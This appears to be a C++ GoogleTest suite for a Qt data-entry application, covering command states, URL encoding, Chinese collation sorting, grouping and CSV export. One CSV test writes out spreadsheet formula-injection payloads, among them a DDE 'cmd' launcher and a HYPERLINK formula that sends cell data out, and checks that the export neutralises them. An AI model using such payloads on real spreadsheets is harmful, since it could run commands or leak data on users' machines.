// The shared pieces of the module windows: which commands a state and a
// right allow, and the grid's sorting, grouping, copying and CSV.
#include "data/database.h"
#include "data/dataset.h"
#include "data/dmmain.h"
#include "data/schema.h"
#include "data/session.h"
#include "testlib/apphome.h"
#include "testlib/tempdatabase.h"
#include "ui/datagrid.h"
#include "ui/gridmodel.h"
#include "ui/links.h"
#include "ui/moduleframe.h"

#include <gtest/gtest.h>

#include <QCollator>
#include <QHeaderView>
#include <QTreeView>

#include <algorithm>
#include <memory>
#include <numeric>

namespace {

using S = Dataset::State;
UserRights::Ops ops(bool ins, bool mod, bool del, bool qry, bool prt) { return {ins, mod, del, qry, prt}; }

struct StateCase {
    const char *name;
    S state;
    UserRights::Ops ops;
    CommandStates expected;
};

CommandStates cs(std::initializer_list<bool> list, std::initializer_list<bool> detail)
{
    CommandStates c;
    bool *l[] = {&c.listNew, &c.listModify, &c.listDelete, &c.listRefresh, &c.listQuery, &c.listPrint};
    bool *d[] = {&c.detailNew, &c.detailSave, &c.detailDelete, &c.detailPrint, &c.detailQuery, &c.detailCancel};
    int i = 0;
    for (bool b : list)
        *l[i++] = b;
    i = 0;
    for (bool b : detail)
        *d[i++] = b;
    return c;
}

TEST(ModuleFrameCommands, FollowStateAndFlags)
{
    const auto all = ops(true, true, true, true, true);
    const auto none = ops(false, false, false, false, false);
    const auto insertOnly = ops(true, false, false, false, false);
    const auto modifyOnly = ops(false, true, false, false, false);
    //                       list: new mod del ref qry prt    detail: new save del prt qry cancel
    const StateCase cases[] = {
        {"browse, all: nothing to store", S::Browse, all, cs({1, 1, 1, 1, 1, 1}, {1, 0, 1, 1, 1, 0})},
        {"browse, modify only", S::Browse, modifyOnly, cs({0, 1, 0, 1, 0, 0}, {0, 0, 0, 0, 0, 0})},
        {"browse, none", S::Browse, none, cs({0, 0, 0, 1, 0, 0}, {0, 0, 0, 0, 0, 0})},
        {"insert, all", S::Insert, all, cs({1, 1, 1, 1, 1, 1}, {0, 1, 1, 1, 1, 1})},
        {"insert, insert only", S::Insert, insertOnly, cs({1, 0, 0, 1, 0, 0}, {0, 1, 0, 0, 0, 1})},
        {"edit, insert only", S::Edit, insertOnly, cs({1, 0, 0, 1, 0, 0}, {1, 0, 0, 0, 0, 1})},
        {"edit, modify only", S::Edit, modifyOnly, cs({0, 1, 0, 1, 0, 0}, {0, 1, 0, 0, 0, 1})},
        {"inactive, all", S::Inactive, all, cs({0, 0, 0, 1, 1, 0}, {0, 0, 0, 0, 1, 0})},
    };
    for (const StateCase &c : cases)
        EXPECT_EQ(commandStates(c.state, c.ops), c.expected) << c.name;
}

TEST(Links, PercentEncodeWhatUsersType)
{
    EXPECT_EQ(mailtoUrl(" 张三 a@b.cn ").toEncoded(), QByteArray("mailto:%E5%BC%A0%E4%B8%89%20a@b.cn"));
    EXPECT_EQ(mailtoUrl("a?b#c@x.cn").toEncoded(), QByteArray("mailto:a%3Fb%23c@x.cn"));
    EXPECT_TRUE(mailtoUrl("  ").isEmpty());
    const QByteArray web = webUrl("www.家政.cn/a b").toEncoded();
    EXPECT_TRUE(web.startsWith("http://www.xn--")) << web.constData();
    EXPECT_TRUE(web.endsWith(".cn/a%20b")) << web.constData();
    EXPECT_EQ(webUrl("https://x.cn/?q=1").toString(), "https://x.cn/?q=1");
}

class GridTest : public ::testing::TestWithParam<Engine>
{
protected:
    void SetUp() override
    {
        t = std::make_unique<TempDatabase>(GetParam());
        ASSERT_EQ(dm.connectTo(t->openAnother()), "");
        Session::current().logIn("Admin", true);
        set = dm.dataset("tblOperaters");
        const char *rows[][4] = {{"A03", "张三", "男", "D1"}, {"A01", "李四", "女", "D2"}, {"A02", "阿明", "男", "D1"},
                                 {"A04", "王五", "男", ""},   {"A05", "赵,\"六\"", "女", "D2"}};
        for (auto &r : rows)
            ASSERT_EQ(t->db().insertRow("tblOperaters", {{"OperaterID", r[0]}, {"Name", r[1]}, {"Sex", r[2]},
                                                         {"DepartmentID", r[3]}}),
                      "");
        set->setOrderBy({"OperaterID"});
        ASSERT_TRUE(set->open());
        grid = std::make_unique<DataGrid>(set, QVector<DatasetModel::Column>{{"OperaterID", "代码"}, {"Name", "姓名"},
                                                                              {"Sex", "性别"}, {"DepartmentID", "部门"}},
                                          "Test.Grid");
    }
    void TearDown() override
    {
        grid.reset();
        Session::current().reset();
    }
    QStringList column(int c)
    {
        QStringList out;
        for (int r : grid->model()->rowsInOrder())
            out << set->value(r, grid->model()->sourceModel()->fieldAt(c)).toString();
        return out;
    }

    AppHome home;
    TdmMain dm;
    std::unique_ptr<TempDatabase> t;
    Dataset *set = nullptr;
    std::unique_ptr<DataGrid> grid;
};

TEST_P(GridTest, SortsChineseByPinyinBothWays)
{
    grid->sortBy("Name");
    EXPECT_EQ(column(1), (QStringList{"阿明", "李四", "王五", "张三", "赵,\"六\""}));
    grid->sortBy("Name", Qt::DescendingOrder);
    EXPECT_EQ(column(1).first(), "赵,\"六\"");
    grid->sortBy(QString()); // back to the dataset's order
    EXPECT_EQ(column(0), (QStringList{"A01", "A02", "A03", "A04", "A05"}));
}

TEST_P(GridTest, GroupsInSeveralLevelsAndFollowsTheCurrentRow)
{
    grid->groupBy({"Sex", "DepartmentID"});
    GridModel *m = grid->model();
    ASSERT_EQ(m->rowCount(), 2); // 男, 女 in pinyin order: nan < nv
    const QModelIndex men = m->index(0, 0);
    EXPECT_EQ(m->data(men).toString(), "性别: 男 (3)");
    ASSERT_EQ(m->rowCount(men), 2); // no department first, then D1
    EXPECT_EQ(m->data(m->index(0, 0, men)).toString(), "部门:  (1)");
    const QModelIndex d1 = m->index(1, 0, men);
    EXPECT_EQ(m->data(d1).toString(), "部门: D1 (2)");
    ASSERT_EQ(m->rowCount(d1), 2);
    EXPECT_FALSE(m->isGroup(m->index(0, 0, d1)));
    EXPECT_EQ(m->data(m->index(0, 1, d1)).toString(), "阿明");

    // Picking a row in the grid moves the dataset, and the reverse.
    grid->view()->setCurrentIndex(m->index(1, 0, d1));
    EXPECT_EQ(set->text("Name"), "张三");
    ASSERT_TRUE(set->locate("OperaterID", "A01"));
    EXPECT_EQ(m->sourceRow(grid->view()->currentIndex()), set->currentRow());

    // A stored new row appears in its group.
    ASSERT_TRUE(set->append());
    set->setValue("OperaterID", "A06");
    set->setValue("Sex", "女");
    ASSERT_TRUE(set->post());
    EXPECT_EQ(m->data(m->index(1, 0)).toString(), "性别: 女 (3)");

    grid->groupBy({});
    EXPECT_EQ(m->rowCount(), 6);
    EXPECT_FALSE(m->isGroup(m->index(0, 0)));
}

// Text sorts as QCollator(zh_CN) in numeric mode compares it, whatever the
// mix of Chinese, letter case, digits, widths and punctuation; texts that
// collate alike keep a fixed order.
TEST_P(GridTest, SortsTextAsTheChineseCollatorCompares)
{
    const QStringList names = {"abc", "ABC", "Abc", "a10", "a9", "a 1", "a-1", "é", "e", "ｅ", "Ａ", "重庆", "重要",
                               "长城", "长度", "银行", "行走", "1号", "10号", "2号", "①", "a_b", "张 三", "!x", "王五",
                               "Zoe", "zoe", "ß", "ss", "〇", "零"};
    for (int i = 0; i < names.size(); ++i)
        ASSERT_EQ(t->db().insertRow("tblOperaters", {{"OperaterID", QString("B%1").arg(i, 2, 10, QChar('0'))},
                                                     {"Name", names[i]}}),
                  "");
    ASSERT_TRUE(set->refresh());
    QStringList expected = column(1);
    QCollator collator{QLocale(QLocale::Chinese, QLocale::China)};
    collator.setNumericMode(true);
    std::stable_sort(expected.begin(), expected.end(), [&](const QString &a, const QString &b) {
        const int c = collator.compare(a, b);
        return c != 0 ? c < 0 : a < b;
    });
    grid->sortBy("Name");
    EXPECT_EQ(column(1), expected);
}

// A column of texts that nearly all differ (names, addresses) is ranked
// row by row rather than value by value; repeats still rank alike and keep
// the list's order, blanks still come first.
TEST_P(GridTest, SortsMostlyDifferentTextsWithRepeatsAndBlanks)
{
    const QString surnames = QStringLiteral("赵钱孙李周吴郑王冯陈褚卫蒋沈韩杨朱秦尤许");
    QStringList names;
    for (int i = 0; i < 120; ++i)
        names << surnames.mid(i % 20, 1) + QStringLiteral("先生") + QString::number(i / 20);
    names << names[7] << names[42] << names[7] << QString() << QString();
    for (int i = 0; i < names.size(); ++i)
        ASSERT_EQ(t->db().insertRow("tblOperaters", {{"OperaterID", QString("C%1").arg(i, 3, 10, QChar('0'))},
                                                     {"Name", names[i]}}),
                  "");
    ASSERT_TRUE(set->refresh());
    // The list's own order (by code) as pairs, sorted apart.
    QStringList codes = column(0), shown = column(1);
    std::vector<int> order(codes.size());
    std::iota(order.begin(), order.end(), 0);
    QCollator collator{QLocale(QLocale::Chinese, QLocale::China)};
    collator.setNumericMode(true);
    std::stable_sort(order.begin(), order.end(), [&](int a, int b) {
        if (shown[a].isEmpty() != shown[b].isEmpty())
            return shown[a].isEmpty();
        const int c = collator.compare(shown[a], shown[b]);
        return c != 0 ? c < 0 : shown[a] < shown[b];
    });
    QStringList expected;
    for (int i : order)
        expected << codes[i];
    grid->sortBy("Name");
    EXPECT_EQ(column(0), expected);
}

// More customers than a page: sorting and grouping read single columns of
// the data module's list set, and the order is the one whole rows give,
// with names missing, level codes that name no level, and a row changed
// after sorting.
TEST_P(GridTest, SortsAndGroupsALargeListAsWholeRowsWould)
{
    ASSERT_EQ(t->db().insertRow("tblCustLevel", {{"LevelID", "A"}, {"LevelName", "重要客户"}, {"Memo", "m"}}), "");
    ASSERT_EQ(t->db().insertRow("tblCustLevel", {{"LevelID", "B"}, {"LevelName", "普通客户"}, {"Memo", "m"}}), "");
    const QStringList names = {"张三", "李四", "", "阿明", "Zoe", "zoe", "王五10", "王五9"};
    const QStringList levels = {"A", "B", "", "GONE"};
    const int n = Dataset::kPageSize * 2 + 50;
    {
        Transaction tx(t->db());
        for (int i = 0; i < n; ++i)
            ASSERT_EQ(t->db().insertRow("tblCustomers", {{"CustId", QString("KH%1").arg(i, 4, 10, QChar('0'))},
                                                         {"CustName", names[i * 7 % names.size()]},
                                                         {"LevelID", levels[i % 4]}}),
                      "");
        ASSERT_EQ(tx.commit(), "");
    }
    Dataset *customers = dm.dataset("tblCustomers");
    ASSERT_TRUE(customers->isActive() ? customers->refresh() : customers->open());
    ASSERT_EQ(customers->rowCount(), n);
    customers->value(3, "CustName"); // the first page was shown
    DataGrid list(customers, {{"CustId", "客户编号"}, {"CustName", "客户名称"}, {"LevelName", "客户级别"}},
                  "Test.Customers");
    const auto shownIds = [&] {
        QStringList out;
        for (int r : list.model()->rowsInOrder())
            out << customers->value(r, "CustId").toString();
        return out;
    };
    // Whole rows, sorted apart: empty names first, then in zh_CN order,
    // rows of one name in the list's order; downwards the same turned round
    // except that rows of one name keep the list's order.
    QCollator collator{QLocale(QLocale::Chinese, QLocale::China)};
    collator.setNumericMode(true);
    std::vector<int> rows(n);
    std::iota(rows.begin(), rows.end(), 0);
    const auto name = [&](int i) { return names[i * 7 % names.size()]; };
    const auto before = [&](int a, int b) {
        if (name(a).isEmpty() != name(b).isEmpty())
            return name(a).isEmpty();
        const int c = collator.compare(name(a), name(b));
        return c != 0 ? c < 0 : name(a) < name(b);
    };
    const auto ids = [](const std::vector<int> &order) {
        QStringList out;
        for (int i : order)
            out << QString("KH%1").arg(i, 4, 10, QChar('0'));
        return out;
    };
    std::stable_sort(rows.begin(), rows.end(), before);
    list.sortBy("CustName");
    EXPECT_FALSE(customers->isRowLoaded(n - 1)); // one column read, not whole rows
    EXPECT_EQ(shownIds(), ids(rows));
    std::iota(rows.begin(), rows.end(), 0);
    std::stable_sort(rows.begin(), rows.end(), [&](int a, int b) { return before(b, a); });
    list.sortBy("CustName", Qt::DescendingOrder);
    EXPECT_EQ(shownIds(), ids(rows));

    // The rows a screen shows are read in the shown order, a page at a time.
    ASSERT_TRUE(customers->refresh());
    GridModel *m = list.model();
    EXPECT_EQ(m->data(m->index(0, 1)).toString(), name(rows[0]));
    for (int i = 0; i < Dataset::kPageSize; ++i)
        EXPECT_TRUE(customers->isRowLoaded(m->sourceRow(m->index(i, 0)))) << i;
    EXPECT_FALSE(customers->isRowLoaded(m->sourceRow(m->index(Dataset::kPageSize + 10, 0))));

    // Levels: no level (blank or an unknown code) first, then by pinyin.
    list.sortBy("CustId");
    list.groupBy({"LevelName"});
    int counts[4] = {};
    for (int i = 0; i < n; ++i)
        ++counts[i % 4];
    ASSERT_EQ(m->rowCount(), 3);
    EXPECT_EQ(m->data(m->index(0, 0)).toString(), QString("客户级别:  (%1)").arg(counts[2] + counts[3]));
    EXPECT_EQ(m->data(m->index(1, 0)).toString(), QString("客户级别: 普通客户 (%1)").arg(counts[1]));
    EXPECT_EQ(m->data(m->index(2, 0)).toString(), QString("客户级别: 重要客户 (%1)").arg(counts[0]));
    EXPECT_EQ(m->data(m->index(0, 0, m->index(2, 0))).toString(), "KH0000");

    // A customer given a level and a name after grouping moves to them.
    ASSERT_TRUE(customers->locate("CustId", "KH0003"));
    ASSERT_TRUE(customers->setValue("LevelID", "A"));
    ASSERT_TRUE(customers->setValue("CustName", "阿阿"));
    ASSERT_TRUE(customers->post()) << customers->lastError().toStdString();
    EXPECT_EQ(m->data(m->index(2, 0)).toString(), QString("客户级别: 重要客户 (%1)").arg(counts[0] + 1));
    list.groupBy({});
    list.sortBy("CustName");
    int blanks = 0;
    for (int i = 0; i < n; ++i)
        blanks += name(i).isEmpty() ? 1 : 0;
    EXPECT_EQ(shownIds().at(blanks), "KH0003"); // "阿阿" first after the empty names
}

TEST_P(GridTest, CsvHasTheBomVisibleColumnsInOrderAndQuotes)
{
    QHeaderView *h = grid->view()->header();
    h->moveSection(1, 0);   // 姓名 first
    h->hideSection(3);      // 部门 hidden
    grid->sortBy("OperaterID", Qt::DescendingOrder);
    const QString path = t->dir() + "/out.csv";
    ASSERT_EQ(grid->writeCsv(path), "");
    QFile f(path);
    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
    const QByteArray bytes = f.readAll();
    ASSERT_TRUE(bytes.startsWith("\xEF\xBB\xBF"));
    const QStringList lines = QString::fromUtf8(bytes.mid(3)).split("\r\n");
    EXPECT_EQ(lines[0], "姓名,代码,性别");
    EXPECT_EQ(lines[1], "\"赵,\"\"六\"\"\",A05,女");
    EXPECT_EQ(lines[5], "李四,A01,女");

    grid->view()->selectionModel()->clear();
    grid->view()->selectionModel()->select(grid->model()->index(4, 0),
                                           QItemSelectionModel::Select | QItemSelectionModel::Rows);
    grid->view()->selectionModel()->select(grid->model()->index(0, 0),
                                           QItemSelectionModel::Select | QItemSelectionModel::Rows);
    EXPECT_EQ(grid->selectedText(), "赵,\"六\"\tA05\t女\n李四\tA01\t女");
}

TEST_P(GridTest, CsvRunsNoFormulaAndKeepsAmountsAsNumbers)
{
    const struct {
        const char *id, *title;
        double amount;
    } rows[] = {
        {"H1", "=HYPERLINK(\"http://x.cn/?d=\"&A2,\"详情\")", -1234.5},
        {"H2", "+1+cmd|' /C calc'!A0", 0},
        {"H3", "@SUM(1+1)", 1500},
        {"H4", "\t=1+1", 2},
        {"H5", "\r=1+1", 3},
        {"H6", "-2+3", -0.25},
        {"H7", "家政 = 服务", 7},
    };
    for (const auto &r : rows)
        ASSERT_EQ(t->db().insertRow("tblOperates", {{"OperateID", r.id}, {"OperateTitle", r.title},
                                                    {"CompactAmount", r.amount}, {"RMB", r.amount}, {"Rate", 1.5}}),
                  "");
    Dataset contracts(&t->db(), "tblOperates", Schema::table("tblOperates"));
    contracts.setOrderBy({"OperateID"});
    ASSERT_TRUE(contracts.open());
    DataGrid g(&contracts, {{"OperateID", "业务代码"}, {"OperateTitle", "业务标题"}, {"CompactAmount", "金额"},
                            {"RMB", "人民币"}, {"Rate", "汇率"}},
               "Test.Contracts");
    const QString path = t->dir() + "/contracts.csv";
    ASSERT_EQ(g.writeCsv(path), "");
    QFile f(path);
    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
    const QStringList lines = QString::fromUtf8(f.readAll().mid(3)).split("\r\n");
    const QStringList expected{
        "业务代码,业务标题,金额,人民币,汇率",
        "H1,\"'=HYPERLINK(\"\"http://x.cn/?d=\"\"&A2,\"\"详情\"\")\",-1234.50,-1234.50,1.5",
        "H2,'+1+cmd|' /C calc'!A0,0.00,0.00,1.5",
        "H3,'@SUM(1+1),1500.00,1500.00,1.5",
        "H4,'\t=1+1,2.00,2.00,1.5",
        "H5,\"'\r=1+1\",3.00,3.00,1.5",
        "H6,'-2+3,-0.25,-0.25,1.5",
        "H7,家政 = 服务,7.00,7.00,1.5",
        "",
    };
    EXPECT_EQ(lines, expected);
}

TEST_P(GridTest, RemembersColumnsUntilTheDefaultsAreAskedFor)
{
    grid->view()->header()->moveSection(2, 0);
    grid->saveLayout();
    grid.reset();
    DataGrid again(set, {{"OperaterID", "代码"}, {"Name", "姓名"}, {"Sex", "性别"}, {"DepartmentID", "部门"}}, "Test.Grid");
    EXPECT_EQ(again.visibleFields().first(), "Sex");
    again.restoreDefaultLayout();
    EXPECT_EQ(again.visibleFields().first(), "OperaterID");
    DataGrid third(set, {{"OperaterID", "代码"}, {"Name", "姓名"}, {"Sex", "性别"}, {"DepartmentID", "部门"}}, "Test.Grid");
    EXPECT_EQ(third.visibleFields().first(), "OperaterID");
}

INSTANTIATE_TEST_SUITE_P(Engines, GridTest, ::testing::ValuesIn(testEngines()),
                         [](const auto &info) { return engineName(info.param); });

} // namespace
